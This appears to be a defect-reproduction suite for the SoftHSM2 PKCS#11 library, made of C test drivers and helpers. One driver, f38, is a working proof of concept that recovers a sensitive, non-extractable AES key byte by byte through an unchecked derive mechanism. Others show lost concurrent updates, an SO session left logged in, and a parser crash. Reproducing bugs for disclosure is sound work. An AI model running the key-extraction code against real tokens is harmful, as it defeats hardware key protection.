	int lost = 0;
	for (int i = 1; i <= 400; i++) {
		char v[16], back[32] = { 0 };
		CK_RV rv;
		snprintf(v, sizeof(v), "%s%d", which ? "id" : "label", i);
		CK_ATTRIBUTE set[] = { { mine, v, strlen(v) } };
		rv = F->C_SetAttributeValue(h, o, set, 1);
		if (rv != CKR_OK) { SAY("worker %d: SETUP FAILURE C_SetAttributeValue -> 0x%lx\n", which, rv); return 2; }
		p11_get(h, o, mine, back, 31, &rv);
		if (strcmp(back, v)) {
			lost++;
			if (lost <= 2) SAY("  process %d: set %s='%s' -> CKR_OK, immediately afterwards the same process reads '%s'\n", which, which ? "CKA_ID" : "CKA_LABEL", v, back);
		}
	}
	SAY("  process %d: %d of its 400 committed updates were lost\n", which, lost);
	F->C_Finalize(NULL);
	return lost ? 1 : 0;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	int result = 0;
	p11_setup_dirs(libdir);
	p11_load(libdir);
	SAY("Set-up: one token, one public secret key token object with CKA_LABEL='label0', CKA_ID='id0'.\n");
	if (p11_in_child(setup, NULL)) return 2;

	SAY("\nScenario 1: A and B modify different attributes of the same object\n");
	int p2c[2], c2p[2];
	if (pipe(p2c) || pipe(c2p)) return 2;
	fflush(stdout);
	pid_t a = fork();
	if (a < 0) return 2;
	if (a == 0) { to_parent = c2p[1]; from_parent = p2c[0]; _exit(procA()); }
	char c;
	if (read(c2p[0], &c, 1) != 1) { SAY("SETUP FAILURE: A did not reach the lock file\n"); return 2; }
	SAY("-- A is inside C_SetAttributeValue: object refreshed, about to take the object's .lock file --\n");
	if (p11_in_child(procB, NULL)) { SAY("SETUP FAILURE in B\n"); return 2; }
	SAY("-- A continues --\n");
	if (write(p2c[1], &c, 1) != 1) return 2;
	int st; waitpid(a, &st, 0);
	if (!WIFEXITED(st) || WEXITSTATUS(st)) { SAY("SETUP FAILURE in A\n"); return 2; }
	int rc = p11_in_child(procC, NULL);
	if (rc == 1) { SAY("OBSERVED: B's committed CKA_LABEL change is gone although nobody set CKA_LABEL after B.\n"); result = 1; }
	else if (rc) return 2;

	SAY("\nScenario 2: the same without any shim - two processes, each updates only its own attribute\n");
	int w0 = 0, w1 = 1;
	fflush(stdout);
	pid_t p = fork();
	if (p < 0) return 2;
	if (p == 0) _exit(worker(&w0));
	int r1 = p11_in_child(worker, &w1);
	waitpid(p, &st, 0);
	int r0 = WIFEXITED(st) ? WEXITSTATUS(st) : 2;
	if (r0 == 2 || r1 == 2) return 2;
	if (r0 == 1 || r1 == 1) result = 1;

	SAY("\nProperty C15: a modification that returned CKR_OK is observed by the other processes with the new\n"
	    "attribute values; no interleaving of calls from different processes loses a committed change.\n");
	SAY(result ? "DEFECT REPRODUCED\n" : "not reproduced\n");
	return result;
}
