/* Small helper layer shared by the replay programs (header only). */
#ifndef P11H_H
#define P11H_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/types.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static char g_dir[512];

#define SAY(...) do { printf(__VA_ARGS__); printf("\n"); fflush(stdout); } while (0)
#define SETUP_FAIL(...) do { printf("SET-UP PROBLEM: "); printf(__VA_ARGS__); printf("\n"); fflush(stdout); exit(2); } while (0)
#define MUST(call) do { CK_RV _rv = (call); if (_rv != CKR_OK) SETUP_FAIL("%s -> 0x%lx (line %d)", #call, (unsigned long)_rv, __LINE__); } while (0)

/* create <tmp>/softhsm2.conf and <tmp>/tokens, export SOFTHSM2_CONF */
static void make_conf(void)
{
	char tmpl[] = "/tmp/hunt-XXXXXX";
	char path[600];
	FILE* f;
	if (mkdtemp(tmpl) == NULL) SETUP_FAIL("mkdtemp");
	strcpy(g_dir, tmpl);
	snprintf(path, sizeof(path), "%s/tokens", g_dir);
	if (mkdir(path, 0700) != 0) SETUP_FAIL("mkdir tokens");
	snprintf(path, sizeof(path), "%s/softhsm2.conf", g_dir);
	f = fopen(path, "w");
	if (!f) SETUP_FAIL("conf");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = %s\nlog.level = ERROR\nslots.removable = false\n", g_dir, getenv("HUNT_BACKEND") ? getenv("HUNT_BACKEND") : "file");
	fclose(f);
	setenv("SOFTHSM2_CONF", path, 1);
}

static void load_lib(const char* libdir)
{
	char path[600];
	void* h;
	CK_C_GetFunctionList gfl;
	snprintf(path, sizeof(path), "%s/libsofthsm2.so", libdir);
	h = dlopen(path, RTLD_NOW | RTLD_LOCAL);
	if (!h) SETUP_FAIL("dlopen %s: %s", path, dlerror());
	gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	if (!gfl) SETUP_FAIL("no C_GetFunctionList");
	if (gfl(&F) != CKR_OK) SETUP_FAIL("C_GetFunctionList");
}

/* find the (first) slot without an initialised token */
static CK_SLOT_ID free_slot(void)
{
	CK_SLOT_ID slots[64];
	CK_ULONG n = 0, i;
	MUST(F->C_GetSlotList(CK_FALSE, NULL_PTR, &n));
	if (n > 64) SETUP_FAIL("too many slots");
	MUST(F->C_GetSlotList(CK_FALSE, slots, &n));
	for (i = 0; i < n; i++)
	{
		CK_TOKEN_INFO ti;
		MUST(F->C_GetTokenInfo(slots[i], &ti));
		if (!(ti.flags & CKF_TOKEN_INITIALIZED)) return slots[i];
	}
	SETUP_FAIL("no free slot");
	return 0;
}

/* find the slot of the token with the given (unpadded) label */
static CK_SLOT_ID slot_by_label(const char* label)
{
	CK_SLOT_ID slots[64];
	CK_ULONG n = 0, i;
	char padded[33];
	memset(padded, ' ', 32); padded[32] = 0;
	memcpy(padded, label, strlen(label));
	MUST(F->C_GetSlotList(CK_FALSE, NULL_PTR, &n));
	if (n > 64) SETUP_FAIL("too many slots");
	MUST(F->C_GetSlotList(CK_FALSE, slots, &n));
	for (i = 0; i < n; i++)
	{
		CK_TOKEN_INFO ti;
		MUST(F->C_GetTokenInfo(slots[i], &ti));
		if ((ti.flags & CKF_TOKEN_INITIALIZED) && memcmp(ti.label, padded, 32) == 0) return slots[i];
	}
	SETUP_FAIL("token %s not found", label);
	return 0;
}

/* initialise a new token on the free slot, set SO and user PIN; returns slot */
static CK_SLOT_ID new_token(const char* label, const char* sopin, const char* userpin)
{
	CK_SLOT_ID slot = free_slot();
	CK_SESSION_HANDLE s;
	char padded[33];
	memset(padded, ' ', 32); padded[32] = 0;
	memcpy(padded, label, strlen(label));
	MUST(F->C_InitToken(slot, (CK_UTF8CHAR_PTR)sopin, strlen(sopin), (CK_UTF8CHAR_PTR)padded));
	if (userpin)
	{
		MUST(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL_PTR, NULL_PTR, &s));
		MUST(F->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR)sopin, strlen(sopin)));
		MUST(F->C_InitPIN(s, (CK_UTF8CHAR_PTR)userpin, strlen(userpin)));
		MUST(F->C_Logout(s));
		MUST(F->C_CloseSession(s));
	}
	return slot;
}

static CK_SESSION_HANDLE open_rw(CK_SLOT_ID slot)
{
	CK_SESSION_HANDLE s;
	MUST(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL_PTR, NULL_PTR, &s));
	return s;
}

static CK_SESSION_HANDLE open_ro(CK_SLOT_ID slot)
{
	CK_SESSION_HANDLE s;
	MUST(F->C_OpenSession(slot, CKF_SERIAL_SESSION, NULL_PTR, NULL_PTR, &s));
	return s;
}

static CK_RV login_user(CK_SESSION_HANDLE s, const char* pin)
{
	return F->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)pin, strlen(pin));
}

static CK_RV login_so(CK_SESSION_HANDLE s, const char* pin)
{
	return F->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR)pin, strlen(pin));
}

/* create a CKO_DATA object */
static CK_RV make_data(CK_SESSION_HANDLE s, CK_BBOOL onToken, CK_BBOOL priv, const char* label, CK_OBJECT_HANDLE* ph)
{
	CK_OBJECT_CLASS cls = CKO_DATA;
	CK_ATTRIBUTE t[] = {
		{ CKA_CLASS, &cls, sizeof(cls) },
		{ CKA_TOKEN, &onToken, sizeof(onToken) },
		{ CKA_PRIVATE, &priv, sizeof(priv) },
		{ CKA_LABEL, (void*)label, strlen(label) },
		{ CKA_VALUE, (void*)"value", 5 },
	};
	return F->C_CreateObject(s, t, 5, ph);
}

/* is the object handle accepted by the library in this session? */
static CK_RV probe_obj(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE h)
{
	CK_OBJECT_CLASS cls = 0;
	CK_ATTRIBUTE a = { CKA_CLASS, &cls, sizeof(cls) };
	return F->C_GetAttributeValue(s, h, &a, 1);
}

static CK_STATE state_of(CK_SESSION_HANDLE s)
{
	CK_SESSION_INFO si;
	MUST(F->C_GetSessionInfo(s, &si));
	return si.state;
}

static void rm_rf_dir(void)
{
	char cmd[700];
	if (strncmp(g_dir, "/tmp/hunt-", 10) != 0) return;
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", g_dir);
	if (system(cmd) != 0) { /* ignore */ }
}


/* run a scenario in a child process; returns its exit code, or 100+signal if it was killed */
static int run_child(int (*fn)(void), unsigned timeoutSec)
{
	int st = 0;
	pid_t p;
	fflush(stdout);
	p = fork();
	if (p < 0) SETUP_FAIL("fork");
	if (p == 0)
	{
		alarm(timeoutSec);
		int rc = fn();
		fflush(stdout);
		_exit(rc);
	}
	if (waitpid(p, &st, 0) != p) SETUP_FAIL("waitpid");
	if (WIFSIGNALED(st)) { SAY("  child killed by signal %d", WTERMSIG(st)); return 100 + WTERMSIG(st); }
	return WEXITSTATUS(st);
}

#endif
