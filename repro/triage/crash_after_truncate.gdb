set pagination off
set breakpoint pending on
break puts
run set
# now at MARK: arm ftruncate
break ftruncate
continue
finish
shell ls -la /root/proto/replay/tok/*/ | grep "\.object"
kill
quit
