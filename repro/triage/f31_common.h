// Common helpers for exploratory drivers
#ifndef COMMON_H
#define COMMON_H
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include <unistd.h>
#include <sys/stat.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static char g_tmpdir[256];
static CK_SLOT_ID g_slot;

#define CHECK(x) do { CK_RV _rv = (x); if (_rv != CKR_OK) { printf("FATAL %s:%d %s -> 0x%lx\n", __FILE__, __LINE__, #x, _rv); exit(2);} } while(0)
#define ATTR(t, v) { t, &v, sizeof(v) }
#define NEL(a) (sizeof(a)/sizeof(a[0]))

static CK_BBOOL bTrue = CK_TRUE, bFalse = CK_FALSE;

static void setup(const char* libdir)
{
	char path[512];
	strcpy(g_tmpdir, "/tmp/wthC-XXXXXX");
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof(path), "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(path, sizeof(path), "%s/softhsm2.conf", g_tmpdir);
	FILE* f = fopen(path, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", path, 1);
	snprintf(path, sizeof(path), "%s/libsofthsm2.so", libdir);
	void* h = dlopen(path, RTLD_NOW);
	if (!h) { printf("dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F));
}

static void init_token(void)
{
	CK_SLOT_ID slots[16]; CK_ULONG n = 16;
	CHECK(F->C_Initialize(NULL));
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n));
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "test", 4);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label));
	// slot may be renumbered; find initialised token
	n = 16;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n));
	g_slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		CHECK(F->C_GetTokenInfo(slots[i], &ti));
		if (ti.flags & CKF_TOKEN_INITIALIZED) { g_slot = slots[i]; break; }
	}
	CK_SESSION_HANDLE s;
	CHECK(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s));
	CHECK(F->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8));
	CHECK(F->C_InitPIN(s, (CK_UTF8CHAR_PTR)"1234", 4));
	CHECK(F->C_Logout(s));
	CHECK(F->C_CloseSession(s));
}

static CK_SLOT_ID find_slot(void)
{
	CK_SLOT_ID slots[16]; CK_ULONG n = 16;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n));
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		CHECK(F->C_GetTokenInfo(slots[i], &ti));
		if (ti.flags & CKF_TOKEN_INITIALIZED) return slots[i];
	}
	return slots[0];
}

static CK_SESSION_HANDLE open_rw(void)
{
	CK_SESSION_HANDLE s;
	CHECK(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s));
	return s;
}

static void login_user(CK_SESSION_HANDLE s)
{
	CK_RV rv = F->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4);
	if (rv != CKR_OK && rv != CKR_USER_ALREADY_LOGGED_IN) { printf("login failed 0x%lx\n", rv); exit(2); }
}

static CK_ULONG count_objects(CK_SESSION_HANDLE s)
{
	CK_OBJECT_HANDLE h[64]; CK_ULONG n, total = 0;
	CHECK(F->C_FindObjectsInit(s, NULL, 0));
	do { CHECK(F->C_FindObjects(s, h, 64, &n)); total += n; } while (n == 64);
	CHECK(F->C_FindObjectsFinal(s));
	return total;
}

static int count_files(void)
{
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "find %s/tokens -type f | grep -v -e token.object -e generation -e token.lock | wc -l", g_tmpdir);
	FILE* p = popen(cmd, "r"); int n = -1; if (fscanf(p, "%d", &n) != 1) n = -1; pclose(p); return n;
}

static void list_files(void)
{
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "find %s/tokens -type f | sort", g_tmpdir);
	if (system(cmd)) {}
}

static void cleanup(void)
{
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", g_tmpdir);
	if (system(cmd)) {}
}

static void hexdump(const char* label, const unsigned char* p, size_t n)
{
	printf("%s[%zu]: ", label, n);
	for (size_t i = 0; i < n && i < 80; i++) printf("%02x", p[i]);
	printf("\n");
}

static CK_OBJECT_HANDLE gen_aes(CK_SESSION_HANDLE s, CK_BBOOL token, CK_BBOOL sensitive, CK_BBOOL extractable)
{
	CK_MECHANISM m = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_ULONG len = 32;
	CK_ATTRIBUTE t[] = {
		ATTR(CKA_TOKEN, token), ATTR(CKA_VALUE_LEN, len), ATTR(CKA_SENSITIVE, sensitive), ATTR(CKA_EXTRACTABLE, extractable),
		ATTR(CKA_ENCRYPT, bTrue), ATTR(CKA_DECRYPT, bTrue), ATTR(CKA_WRAP, bTrue), ATTR(CKA_UNWRAP, bTrue), ATTR(CKA_SIGN, bTrue), ATTR(CKA_VERIFY, bTrue), ATTR(CKA_DERIVE, bTrue),
	};
	CK_OBJECT_HANDLE h;
	CHECK(F->C_GenerateKey(s, &m, t, NEL(t), &h));
	return h;
}

static CK_RV gen_rsa(CK_SESSION_HANDLE s, CK_BBOOL token, CK_ULONG bits, CK_OBJECT_HANDLE* pub, CK_OBJECT_HANDLE* priv)
{
	CK_MECHANISM m = { CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0 };
	CK_BYTE e[] = { 1, 0, 1 };
	CK_ATTRIBUTE pt[] = { ATTR(CKA_TOKEN, token), ATTR(CKA_MODULUS_BITS, bits), { CKA_PUBLIC_EXPONENT, e, 3 }, ATTR(CKA_ENCRYPT, bTrue), ATTR(CKA_VERIFY, bTrue), ATTR(CKA_WRAP, bTrue) };
	CK_ATTRIBUTE vt[] = { ATTR(CKA_TOKEN, token), ATTR(CKA_SENSITIVE, bTrue), ATTR(CKA_DECRYPT, bTrue), ATTR(CKA_SIGN, bTrue), ATTR(CKA_UNWRAP, bTrue), ATTR(CKA_EXTRACTABLE, bTrue) };
	return F->C_GenerateKeyPair(s, &m, pt, NEL(pt), vt, NEL(vt), pub, priv);
}

static CK_RV gen_ec(CK_SESSION_HANDLE s, CK_BBOOL token, CK_OBJECT_HANDLE* pub, CK_OBJECT_HANDLE* priv)
{
	CK_MECHANISM m = { CKM_EC_KEY_PAIR_GEN, NULL, 0 };
	CK_BYTE p256[] = { 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07 };
	CK_ATTRIBUTE pt[] = { ATTR(CKA_TOKEN, token), { CKA_EC_PARAMS, p256, sizeof(p256) }, ATTR(CKA_VERIFY, bTrue) };
	CK_ATTRIBUTE vt[] = { ATTR(CKA_TOKEN, token), ATTR(CKA_SENSITIVE, bTrue), ATTR(CKA_SIGN, bTrue), ATTR(CKA_DERIVE, bTrue), ATTR(CKA_EXTRACTABLE, bTrue) };
	return F->C_GenerateKeyPair(s, &m, pt, NEL(pt), vt, NEL(vt), pub, priv);
}

static CK_RV gen_ed(CK_SESSION_HANDLE s, CK_BBOOL token, CK_OBJECT_HANDLE* pub, CK_OBJECT_HANDLE* priv)
{
	CK_MECHANISM m = { CKM_EC_EDWARDS_KEY_PAIR_GEN, NULL, 0 };
	CK_BYTE ed25519[] = { 0x06, 0x03, 0x2b, 0x65, 0x70 };
	CK_ATTRIBUTE pt[] = { ATTR(CKA_TOKEN, token), { CKA_EC_PARAMS, ed25519, sizeof(ed25519) }, ATTR(CKA_VERIFY, bTrue) };
	CK_ATTRIBUTE vt[] = { ATTR(CKA_TOKEN, token), ATTR(CKA_SENSITIVE, bTrue), ATTR(CKA_SIGN, bTrue), ATTR(CKA_EXTRACTABLE, bTrue) };
	return F->C_GenerateKeyPair(s, &m, pt, NEL(pt), vt, NEL(vt), pub, priv);
}
#endif
