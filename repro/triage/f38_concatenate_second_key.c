/*
 * Defect 1: CKM_CONCATENATE_BASE_AND_KEY applies no check at all to the second key
 * (the key whose handle is the mechanism parameter): not CKA_DERIVE, not
 * CKA_ALLOWED_MECHANISMS, not the object class, not even the access check.
 *
 * Consequence shown here: a token key that is CKA_SENSITIVE=true, CKA_EXTRACTABLE=false,
 * CKA_DERIVE=false and restricted to CKM_AES_GCM by CKA_ALLOWED_MECHANISMS is used as
 * key in a derive operation and its complete value is recovered byte by byte.
 *
 * exit 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static CK_OBJECT_CLASS skClass = CKO_SECRET_KEY;
static CK_KEY_TYPE ktAES = CKK_AES, ktGeneric = CKK_GENERIC_SECRET;

static int scenario(const char *libdir)
{
	CK_RV rv;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	/* The victim: generated on the token, never leaves it, must not be used for derivation */
	CK_MECHANISM kg = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_ULONG len = 16;
	CK_MECHANISM_TYPE allowed[] = { CKM_AES_GCM };
	CK_ATTRIBUTE vT[] = {
		A(CKA_VALUE_LEN, len), A(CKA_TOKEN, ckTrue), A(CKA_PRIVATE, ckTrue),
		A(CKA_SENSITIVE, ckTrue), A(CKA_EXTRACTABLE, ckFalse),
		A(CKA_DERIVE, ckFalse), A(CKA_ENCRYPT, ckTrue), A(CKA_DECRYPT, ckTrue),
		{ CKA_ALLOWED_MECHANISMS, allowed, sizeof allowed },
	};
	CK_OBJECT_HANDLE hVictim;
	CHECK_SETUP(F->C_GenerateKey(s, &kg, vT, sizeof vT / sizeof vT[0], &hVictim));
	printf("victim: AES-128 token key, CKA_SENSITIVE=%d CKA_EXTRACTABLE=%d CKA_DERIVE=%d "
	       "CKA_ALWAYS_SENSITIVE=%d CKA_NEVER_EXTRACTABLE=%d, CKA_ALLOWED_MECHANISMS={CKM_AES_GCM}\n",
	       get_bool(s, hVictim, CKA_SENSITIVE), get_bool(s, hVictim, CKA_EXTRACTABLE), get_bool(s, hVictim, CKA_DERIVE),
	       get_bool(s, hVictim, CKA_ALWAYS_SENSITIVE), get_bool(s, hVictim, CKA_NEVER_EXTRACTABLE));

	CK_BYTE buf[64]; CK_ULONG bl = sizeof buf;
	rv = get_attr(s, hVictim, CKA_VALUE, buf, &bl);
	printf("C_GetAttributeValue(victim, CKA_VALUE) -> 0x%lx (CKR_ATTRIBUTE_SENSITIVE expected)\n", rv);

	/* An attacker-chosen, known base key */
	CK_BYTE known[1] = { 0xAA };
	CK_ATTRIBUTE bT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), { CKA_VALUE, known, 1 },
			      A(CKA_DERIVE, ckTrue), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hBase;
	CHECK_SETUP(F->C_CreateObject(s, bT, 6, &hBase));

	/* Control: with the victim as BASE key the usage flag is enforced */
	{
		CK_MECHANISM cm = { CKM_CONCATENATE_BASE_AND_KEY, &hBase, sizeof hBase };
		CK_ATTRIBUTE dT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric) };
		CK_OBJECT_HANDLE hD = CK_INVALID_HANDLE;
		rv = F->C_DeriveKey(s, &cm, hVictim, dT, 2, &hD);
		printf("control: C_DeriveKey(CONCATENATE_BASE_AND_KEY, base=victim) -> 0x%lx "
		       "(0x68 CKR_KEY_FUNCTION_NOT_PERMITTED expected: CKA_DERIVE is false)\n", rv);
	}

	/* The defect: the same key as SECOND key is accepted */
	CK_BYTE rec[1 + 16]; rec[0] = known[0];
	int started = 0;
	for (CK_ULONG i = 1; i <= 16; i++)
	{
		CK_MECHANISM cm = { CKM_CONCATENATE_BASE_AND_KEY, &hVictim, sizeof hVictim };
		CK_ULONG vl = 1 + i; /* base (1 byte) || first i bytes of the victim */
		CK_ATTRIBUTE dT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_VALUE_LEN, vl) };
		CK_OBJECT_HANDLE hD = CK_INVALID_HANDLE;
		rv = F->C_DeriveKey(s, &cm, hBase, dT, 3, &hD);
		if (i == 1)
			printf("C_DeriveKey(CONCATENATE_BASE_AND_KEY, base=known key, other=victim) -> 0x%lx\n", rv);
		if (rv != CKR_OK)
		{
			printf("the derive operation with the victim as second key was refused: not reproduced\n");
			p11_cleanup();
			return 0;
		}
		started = 1;
		CK_BYTE kcv[8]; CK_ULONG kl = sizeof kcv;
		rv = get_attr(s, hD, CKA_CHECK_VALUE, kcv, &kl);
		if (i == 1)
			printf("  derived key: CKA_SENSITIVE=%d CKA_EXTRACTABLE=%d (inherited), but CKA_CHECK_VALUE readable: rv 0x%lx, %lu bytes\n",
			       get_bool(s, hD, CKA_SENSITIVE), get_bool(s, hD, CKA_EXTRACTABLE), rv, kl);
		F->C_DestroyObject(s, hD);
		if (rv != CKR_OK || kl != 3) { printf("no check value on the derived key\n"); p11_cleanup(); return 0; }

		/* 256 guesses for the next byte; the token itself is used to compute the check value of a guess */
		int found = -1;
		for (int g = 0; g < 256 && found < 0; g++)
		{
			rec[i] = (CK_BYTE)g;
			CK_ATTRIBUTE gT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), { CKA_VALUE, rec, 1 + i } };
			CK_OBJECT_HANDLE hG;
			CHECK_SETUP(F->C_CreateObject(s, gT, 3, &hG));
			CK_BYTE k2[8]; CK_ULONG k2l = sizeof k2;
			get_attr(s, hG, CKA_CHECK_VALUE, k2, &k2l);
			F->C_DestroyObject(s, hG);
			if (k2l == 3 && !memcmp(k2, kcv, 3)) found = g;
		}
		if (found < 0) { printf("no candidate for byte %lu\n", i); p11_cleanup(); return 0; }
		rec[i] = (CK_BYTE)found;
	}
	(void)started;
	hexdump("value recovered for the victim key", rec + 1, 16);

	/* Confirm: encrypt with the victim (AES-GCM, its only permitted mechanism) and with a key object made from the recovered bytes */
	CK_ATTRIBUTE rT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), { CKA_VALUE, rec + 1, 16 }, A(CKA_ENCRYPT, ckTrue) };
	CK_OBJECT_HANDLE hR;
	CHECK_SETUP(F->C_CreateObject(s, rT, 4, &hR));
	CK_BYTE iv[12] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 };
	CK_GCM_PARAMS gp; memset(&gp, 0, sizeof gp);
	gp.pIv = iv; gp.ulIvLen = 12; gp.ulIvBits = 96; gp.ulTagBits = 128;
	CK_MECHANISM gcm = { CKM_AES_GCM, &gp, sizeof gp };
	CK_BYTE pt[20] = "twenty bytes of text"; CK_BYTE c1[64], c2[64]; CK_ULONG l1 = sizeof c1, l2 = sizeof c2;
	CHECK_SETUP(F->C_EncryptInit(s, &gcm, hVictim));
	CHECK_SETUP(F->C_Encrypt(s, pt, 20, c1, &l1));
	CHECK_SETUP(F->C_EncryptInit(s, &gcm, hR));
	CHECK_SETUP(F->C_Encrypt(s, pt, 20, c2, &l2));
	hexdump("AES-GCM under the victim key       ", c1, l1);
	hexdump("AES-GCM under the recovered value  ", c2, l2);
	int same = (l1 == l2 && !memcmp(c1, c2, l1));
	p11_cleanup();

	printf("\nproperty C07: a derive operation starts successfully only if the key's CKA_DERIVE is true, its class and type fit\n"
	       "the mechanism and the mechanism is listed in its CKA_ALLOWED_MECHANISMS; C02: sensitive / unextractable key material\n"
	       "never leaves the token in the clear.\n");
	if (same)
	{
		printf("observed: the victim (CKA_DERIVE=false, only CKM_AES_GCM allowed) was accepted as second key of\n"
		       "CKM_CONCATENATE_BASE_AND_KEY and its 16 secret bytes were recovered. DEFECT REPRODUCED\n");
		return 1;
	}
	printf("the recovered value does not match: not reproduced\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r = run_child(scenario, argv[1]);
	if (r >= 100) { printf("the scenario crashed\n"); return 2; }
	return r;
}
