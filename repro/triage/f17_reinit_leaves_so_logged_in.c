/* F17: C_InitToken on an initialised token verifies the SO PIN by logging the SO in on the live SecureDataManager; when the reset then
 * fails (here: object files cannot be removed, injected with f17_failremove.so) the call returns CKR_DEVICE_ERROR but the SO stays logged in:
 * the next RW session starts in CKS_RW_SO_FUNCTIONS without any C_Login.  Needs SOFTHSM2_CONF and a token from ./replay setup. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s));
 CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_OBJECT_CLASS dc=CKO_DATA; CK_BBOOL t=CK_TRUE,f=CK_FALSE; CK_ATTRIBUTE tpl[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&t,1},{CKA_PRIVATE,&f,1},{CKA_LABEL,"f17",3}}; CK_OBJECT_HANDLE o; CK(p->C_CreateObject(s,tpl,4,&o));
 CK(p->C_CloseAllSessions(slots[0]));
 CK_UTF8CHAR label[32]; memset(label,' ',32); memcpy(label,"again",5);
 setenv("FAIL_REMOVE","1",1);
 CK_RV rv=p->C_InitToken(slots[0],(CK_UTF8CHAR_PTR)"12345678",8,label);
 setenv("FAIL_REMOVE","0",1);
 printf("F17 C_InitToken(correct SO PIN) while object files cannot be removed: rv=0x%lx (0x30=CKR_DEVICE_ERROR)\n",rv);
 CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK_SESSION_INFO si; CK(p->C_GetSessionInfo(s,&si));
 printf("    new RW session without any C_Login is in state %lu (2=CKS_RW_PUBLIC_SESSION, 4=CKS_RW_SO_FUNCTIONS) => %s\n",si.state,si.state==CKS_RW_PUBLIC_SESSION?"consistent":"BROKEN: the failed call left the SO logged in");
 CK_SESSION_HANDLE s2; CK_RV r2=p->C_OpenSession(slots[0],CKF_SERIAL_SESSION,NULL,NULL,&s2); printf("    C_OpenSession(RO)=0x%lx (0xb8=CKR_SESSION_READ_WRITE_SO_EXISTS)\n",r2);
 return si.state!=CKS_RW_PUBLIC_SESSION; }
