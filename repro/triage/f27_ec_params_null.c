/* F27: OSSL::byteString2oid() dereferences the result of d2i_ASN1_PRINTABLESTRING() without a NULL test.  CKA_EC_PARAMS of an Edwards/Montgomery key is caller data; a
 * truncated PrintableString (tag 0x13, announced length 32, one byte present) makes the parser return NULL and C_VerifyInit(CKM_EDDSA) crashes the process.
 * Needs a token from ./replay setup (user PIN 1234).  Runs the calls in a child so that the crash can be reported. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
